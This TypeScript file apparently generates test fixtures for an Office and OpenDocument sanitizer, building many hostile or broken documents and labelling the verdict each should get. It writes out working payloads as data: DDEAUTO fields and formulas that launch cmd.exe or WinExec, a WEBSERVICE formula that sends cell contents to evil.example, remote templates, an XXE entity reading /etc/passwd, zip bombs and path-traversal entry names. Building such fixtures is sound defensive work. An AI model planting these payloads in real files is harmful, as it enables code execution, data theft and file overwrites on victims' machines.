import sharp from 'sharp';
import { cut, file, type Hostile, noise, PLANTED, scratched, SCRIPT } from './hostile.ts';
import { docx, docxParts, odt, pptx, rels, xlsx } from './office.ts';
import { zip, type ZipPart } from './zip.ts';

const field = (...pieces: readonly string[]): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}</w:p>`;
const formula = (words: string): ZipPart => ({
  name: 'xl/worksheets/sheet1.xml',
  bytes: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><f>${words}</f></c></row></sheetData></worksheet>`,
});
const part = (name: string, bytes: ZipPart['bytes'] = PLANTED): ZipPart => ({ name, bytes });
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(600, 4)]);
const linked = (kind: string, target: string, bytes: ZipPart['bytes']) => ({
  links: [{ kind, target }],
  parts: [part(`word/${target}`, bytes)],
});
const external = (kind: string, target: string) => ({ links: [{ kind, target, isExternal: true }] });

/** Documents that run something, or fetch it. */
const active = (): readonly Hostile[] => [
  file('docm', docx({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), 'has-macros'),
  file('docm under another name', docx(linked('vbaProject', 'vbaProject.bin', OLE)), 'has-macros'),
  file('macros under a name of their own', docx({ parts: [part('word/x.bin', OLE)] }), 'has-embedded-files'),
  file('Excel 4 macros', xlsx({ parts: [part('xl/macrosheets/sheet1.xml', '<a/>')] }), 'has-macros'),
  file('ActiveX', docx({ parts: [part('word/activeX/activeX1.xml', '<a/>')] }), 'has-active-content'),
  file(
    'a template',
    docx({ type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' }),
    'not-allowed-type',
  ),
  ...[
    'https://evil.example/t.dotm',
    'file://server/t.dotm',
    String.raw`\\server\t.dotm`,
    'HT&#84;P://evil.example/t',
    ' https://evil.example',
  ].map((target) =>
    file(
      `a template from ${target}`,
      docx({
        parts: [
          part('word/settings.xml', '<w:settings/>'),
          part('word/_rels/settings.xml.rels', rels({ kind: 'attachedTemplate', target, isExternal: true })),
        ],
      }),
      'has-active-content',
    ),
  ),
  file(
    'a template on its own disk',
    docx({
      links: [{ kind: 'settings', target: 'settings.xml' }],
      parts: [
        part('word/settings.xml', '<w:settings xmlns:w="w"><w:attachedTemplate r:id="rId1"/></w:settings>'),
        part(
          'word/_rels/settings.xml.rels',
          rels({ kind: 'attachedTemplate', target: `file:///C:\\Users\\${PLANTED}\\t.dotx`, isExternal: true }),
        ),
      ],
    }),
    'clean',
  ),
  ...['oleObject', 'image', 'subDocument', 'externalLinkPath', 'aFChunk'].map((kind) =>
    file(`${kind} from elsewhere`, docx(external(kind, 'https://evil.example/x')), 'has-active-content'),
  ),
  file('a link that is script', docx(external('hyperlink', `javascript:alert('${PLANTED}')`)), 'clean'),
  file('a link to a disk', docx(external('hyperlink', `file:///C:/Users/${PLANTED}/x.doc`)), 'clean'),
  file('a link that is script, hidden', docx(external('hyperlink', `&#106;ava&#x0A;script:${PLANTED}`)), 'clean'),
  file('DDE', docx({ text: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') }), 'has-active-content'),
  file('DDE in pieces', docx({ text: field(' D', 'DE', 'AU', 'TO cmd') }), 'has-active-content'),
  file('DDE in letters by number', docx({ text: field('&#68;&#x44;&#69;AUTO cmd') }), 'has-active-content'),
  file('DDE in a simple field', docx({ text: '<w:fldSimple w:instr=" DDEAUTO cmd"/>' }), 'has-active-content'),
  file('DDE under another prefix', docx({ text: '<z:r xmlns:z="w"><z:instrText>DDE cmd x</z:instrText></z:r>' }), 'has-active-content'),
  file('a picture fetched by a field', docx({ text: field('INCLUDEPICTURE "https://evil.example/x.png"') }), 'has-active-content'),
  file(
    'a document type',
    docx({ parts: [part('word/document.xml', '<!DOCTYPE a [<!ENTITY b "c">]><w:document/>')] }),
    'has-active-content',
  ),
  file(
    'an entity from elsewhere',
    docx({ parts: [part('word/document.xml', '<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>')] }),
    'has-active-content',
  ),
  file(
    'text in wide letters',
    docx({ parts: [part('word/document.xml', Buffer.from('\uFEFF<?xml version="1.0" encoding="utf-16"?><a/>', 'utf16le'))] }),
    'damaged',
  ),
  file('text that says it is UTF-7', docx({ parts: [part('word/document.xml', '<?xml version="1.0" encoding="utf-7"?><a/>')] }), 'damaged'),
  file('HTML inside', docx({ links: [{ kind: 'aFChunk', target: 'x.html' }], parts: [part('word/x.html', SCRIPT)] }), 'has-embedded-files'),
  file('a data connection', xlsx({ parts: [part('xl/connections.xml', '<a/>')] }), 'has-active-content'),
  ...["cmd|'/C calc'!A0", '_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)', '=CALL("kernel32","WinExec","JC","calc")'].map((words) =>
    file(
      `the formula ${words}`,
      xlsx({ links: [{ kind: 'worksheet', target: 'worksheets/sheet1.xml' }], parts: [formula(words)] }),
      'has-active-content',
    ),
  ),
  file(
    'a DDE link',
    xlsx({
      parts: [part('xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')],
    }),
    'has-active-content',
  ),
  ...['program', 'macro?name=x', 'ole?verb=0'].map((action) =>
    file(`a click that is ${action}`, pptx({ text: `<a:hlinkClick action="ppaction://${action}"/>` }), 'has-active-content'),
  ),
];

/** Documents with something inside. */
const carriers = (inner: Buffer): readonly Hostile[] => [
  file('an OLE package', docx(linked('oleObject', 'embeddings/oleObject1.bin', OLE)), 'has-embedded-files'),
  file('a program', docx(linked('image', 'media/image1.jpeg', Buffer.concat([Buffer.from('MZ'), noise(400, 1)]))), 'has-embedded-files'),
  file(
    'a program that nothing leads to',
    docx({ parts: [part('evil.exe', Buffer.concat([Buffer.from('MZ'), noise(400, 1)]))] }),
    'has-embedded-files',
  ),
  file('a script', docx({ parts: [part('word/media/x.sh', '#!/bin/sh\nexit')] }), 'has-embedded-files'),
  file('an archive', docx(linked('package', 'embeddings/a.zip', zip([part('a.txt')]))), 'has-embedded-files'),
  file(
    'a workbook with macros',
    docx(linked('package', 'embeddings/a.xlsx', xlsx({ parts: [part('xl/vbaProject.bin', OLE)] }))),
    'has-macros',
  ),
  file(
    'a workbook with its author',
    docx(linked('package', 'embeddings/a.xlsx', xlsx({ parts: [part('docProps/core.xml', `<a>${PLANTED}</a>`)] }))),
    'clean',
  ),
  file(
    'a workbook in a workbook',
    docx(
      linked(
        'package',
        'embeddings/a.xlsx',
        xlsx({ links: [{ kind: 'package', target: 'embeddings/b.xlsx' }], parts: [part('xl/embeddings/b.xlsx', xlsx())] }),
      ),
    ),
    'has-embedded-files',
  ),
  file(
    'a drawing with script',
    docx(linked('image', 'media/image1.svg', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)),
    'has-active-content',
  ),
  file('a photograph with a place', docx(linked('image', 'media/image1.jpeg', inner)), 'clean'),
];

/** What a document tells about its author, and parts that nothing leads to. */
const talkative = (): readonly Hostile[] => [
  file(
    'docx with its author',
    docx({
      links: [
        { kind: 'comments', target: 'comments.xml' },
        { kind: 'customXml', target: '../customXml/item1.xml' },
      ],
      parts: [
        part('docProps/app.xml', `<Properties><Company>${PLANTED}</Company></Properties>`),
        part('docProps/core.xml', `<a>${PLANTED}</a>`),
        part('docProps/custom.xml', `<a>${PLANTED}</a>`),
        part('docProps/thumbnail.jpeg', PLANTED),
        part('customXml/item1.xml', `<a>${PLANTED}</a>`),
        part('word/people.xml', `<a>${PLANTED}</a>`),
        part('word/hidden.xml', `<a>${PLANTED}</a>`),
        part('word/comments.xml', `<w:comments><w:comment w:author="${PLANTED}" w:initials='${PLANTED}'/></w:comments>`),
      ],
    }),
    'clean',
  ),
  file('docx with tracked changes', docx({ text: `<w:ins w:id="1" w:author="${PLANTED}"/>` }), 'clean'),
  file(
    'xlsx with its author',
    xlsx({
      text: `<fileSharing userName="${PLANTED}"/><x15ac:absPath url="C:\\${PLANTED}\\"/>`,
      links: [{ kind: 'comments', target: 'comments1.xml' }],
      parts: [
        part('docProps/app.xml', PLANTED),
        part('xl/comments1.xml', `<comments><authors><author>${PLANTED}</author></authors></comments>`),
        part('xl/printerSettings/printerSettings1.bin', PLANTED),
      ],
    }),
    'clean',
  ),
  file(
    'pptx with its author',
    pptx({
      links: [{ kind: 'commentAuthors', target: 'commentAuthors.xml' }],
      parts: [part('ppt/commentAuthors.xml', `<a><b name="${PLANTED}" initials="${PLANTED}"/></a>`)],
    }),
    'clean',
  ),
  file(
    'odt with its author',
    odt({
      text: `<office:annotation><dc:creator>${PLANTED}</dc:creator></office:annotation>`,
      parts: [
        part('meta.xml', `<a>${PLANTED}</a>`),
        part('Thumbnails/thumbnail.png'),
        part('Configurations2/x.xml'),
        part('layout-cache'),
        part('settings.xml', `<c:a xmlns:c="c"><c:config-item c:name="PrinterName">${PLANTED}</c:config-item></c:a>`),
      ],
    }),
    'clean',
  ),
];

const openDocuments = (): readonly Hostile[] => [
  file('odt with Basic', odt({ parts: [part('Basic/Standard/Module1.xml', '<a/>')] }), 'has-macros'),
  file('odt with Python', odt({ parts: [part('Scripts/python/x.py', 'import os')] }), 'has-macros'),
  file(
    'odt with a listener',
    odt({ text: '<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>' }),
    'has-macros',
  ),
  file(
    'odt with a listener under another prefix',
    odt({ text: '<zz:event-listener xmlns:zz="x" zz:language="ooo:script"/>' }),
    'has-macros',
  ),
  file('odt with script', odt({ text: '<text:script script:language="JavaScript">x</text:script>' }), 'has-macros'),
  file('odt with DDE', odt({ text: '<text:dde-connection-decl office:dde-application="cmd"/>' }), 'has-active-content'),
  file('odt with an applet', odt({ text: '<draw:applet/>' }), 'has-active-content'),
  file('odt with a frame', odt({ text: '<draw:floating-frame xlink:href="https://evil.example"/>' }), 'has-active-content'),
  file('odt with a picture from elsewhere', odt({ text: `<draw:image xlink:href="https://evil.example/x.png"/>` }), 'has-active-content'),
  file(
    'odt with a section from a server',
    odt({ text: String.raw`<text:section-source xlink:href="\\server\x.odt"/>` }),
    'has-active-content',
  ),
  file('odt with a link that is script', odt({ text: `<text:a xlink:href="vnd.sun.star.script:${PLANTED}">x</text:a>` }), 'clean'),
  file('odt with an object', odt({ parts: [part('Object 1', OLE)] }), 'has-embedded-files'),
  file('odt with a locked part', odt({ manifest: '<manifest:encryption-data/>' }), 'encrypted'),
  file('odt template', odt({ mimetype: 'application/vnd.oasis.opendocument.text-template' }), 'not-allowed-type'),
  file('odt with a document type', odt({ parts: [part('styles.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a/>')] }), 'has-active-content'),
  file('odg', odt({ mimetype: 'application/vnd.oasis.opendocument.graphics' }), 'not-allowed-type'),
];

const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * 2 ** 20);

/** Archives that lie about themselves. */
function archives(): readonly Hostile[] {
  const parts = docxParts();
  const among = (...more: readonly ZipPart[]): Buffer => zip([...parts, ...more]);
  return [
    file('a part that says 190 MB', among({ ...part('word/x.xml'), size: 190 * 2 ** 20 }), 'bomb'),
    file('a part that unpacks to more than it says', among({ ...part('word/x.xml', zeros(60)), size: 10 }), 'bomb'),
    file('a part of 60 MB of nothing', among(part('word/x.xml', zeros(60))), 'bomb'),
    file('a part that says 4 GB', among({ ...part('word/x.xml'), size: 0xffffffff }), 'bomb'),
    file('parts that say 150 MB in all', among(...[1, 2, 3].map((nth) => ({ ...part(`word/x${nth}.xml`), size: 50 * 2 ** 20 }))), 'bomb'),
    file('10 000 parts', zip([...parts, ...Array.from({ length: 10_000 }, (_, nth) => part(`word/${nth}.xml`, ''))]), 'bomb'),
    file(
      'a text of 17 MB',
      among(
        part(
          'word/x.xml',
          noise(2 ** 16, 9)
            .toString('hex')
            .repeat(136),
        ),
      ),
      'bomb',
    ),
    file('parts over each other', among({ ...part('word/x.xml'), at: 0 }), 'damaged'),
    file('a part of two names', among({ ...part('word/x.xml'), localName: 'word/y.xml' }), 'damaged'),
    file('two parts of one name', among(part('word/document.xml', '<a/>')), 'damaged'),
    file('two parts of nearly one name', among(part('word/Document.xml', '<a/>')), 'damaged'),
    file('a locked part', among({ ...part('word/x.xml'), flags: 1 }), 'encrypted'),
    file('a part packed in another way', among({ ...part('word/x.xml'), method: 12 }), 'damaged'),
    file('a part that is not what it says', among({ ...part('word/x.xml'), crc: 1 }), 'damaged'),
    ...[
      '../../evil.xml',
      '/etc/x.xml',
      String.raw`word\x.xml`,
      'C:/x.xml',
      'word/./x.xml',
      'word//x.xml',
      'word/a\0.xml',
      `word/${'x'.repeat(300)}.xml`,
      'word/\u202Elmx.exe',
    ].map((name) => file(`the name ${JSON.stringify(name.slice(0, 20))}`, among(part(name, '<a/>')), 'damaged')),
    file('an archive that goes on', zip(parts, Buffer.from(SCRIPT)), 'damaged'),
    file('HTML before an archive', Buffer.concat([Buffer.from(SCRIPT), zip(parts)]), 'not-allowed-type', 'damaged'),
    file('a plain archive', zip([part('a.txt')]), 'not-allowed-type'),
    file('a Java archive', zip([part('META-INF/MANIFEST.MF')]), 'not-allowed-type'),
    file('an archive without parts', zip([]), 'not-allowed-type', 'damaged'),
    file(
      'two main parts',
      zip(
        docxParts({
          parts: [
            part(
              '_rels/.rels',
              rels({ kind: 'officeDocument', target: 'word/document.xml' }, { kind: 'officeDocument', target: 'word/x.xml' }),
            ),
            part('word/x.xml', '<a/>'),
          ],
        }),
      ),
      'damaged',
    ),
    file(
      'a main part that is not there',
      docx({ parts: [part('_rels/.rels', rels({ kind: 'officeDocument', target: 'word/none.xml' }))] }),
      'damaged',
      'not-allowed-type',
    ),
  ];
}

const others = (photograph: Buffer): readonly Hostile[] => [
  file('a locked docx', Buffer.concat([OLE, Buffer.from('EncryptedPackage', 'utf16le')]), 'encrypted'),
  file('a doc of the older kind', OLE, 'not-allowed-type'),
  file('RTF', Buffer.from(String.raw`{\rtf1 {\object\objdata 0105}}`), 'not-allowed-type'),
  file('plain text', Buffer.from('Hej'), 'not-allowed-type'),
  file('HTML', Buffer.from(SCRIPT), 'not-allowed-type'),
  file('a program', Buffer.concat([Buffer.from('7f454c46', 'hex'), noise(300, 2)]), 'not-allowed-type'),
  file('a picture', photograph, 'not-allowed-type'),
  file('no bytes', Buffer.alloc(0), 'damaged'),
];

const broken = (): readonly Hostile[] =>
  Object.entries({ docx: docx(), odt: odt() }).flatMap(([kind, bytes]) => [
    ...cut(bytes, 3).map((some) => file(`${kind} cut off at ${some.length} of ${bytes.length}`, some, 'damaged')),
    ...[1, 2, 3, 4].map((seed) =>
      file(
        `${kind} scratched (${seed})`,
        scratched(bytes, seed, 3),
        'damaged',
        'bomb',
        'encrypted',
        'not-allowed-type',
        'has-embedded-files',
        'clean',
      ),
    ),
  ]);

/** Office documents that mean harm, or are broken; made here, by nobody. */
export async function hostileDocuments(): Promise<readonly Hostile[]> {
  const photograph = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#a35' } })
    .withExif({ IFD0: { Artist: PLANTED }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '56/1 2/1 3/1' } })
    .jpeg()
    .toBuffer();
  return [...active(), ...carriers(photograph), ...talkative(), ...openDocuments(), ...archives(), ...others(photograph), ...broken()];
}
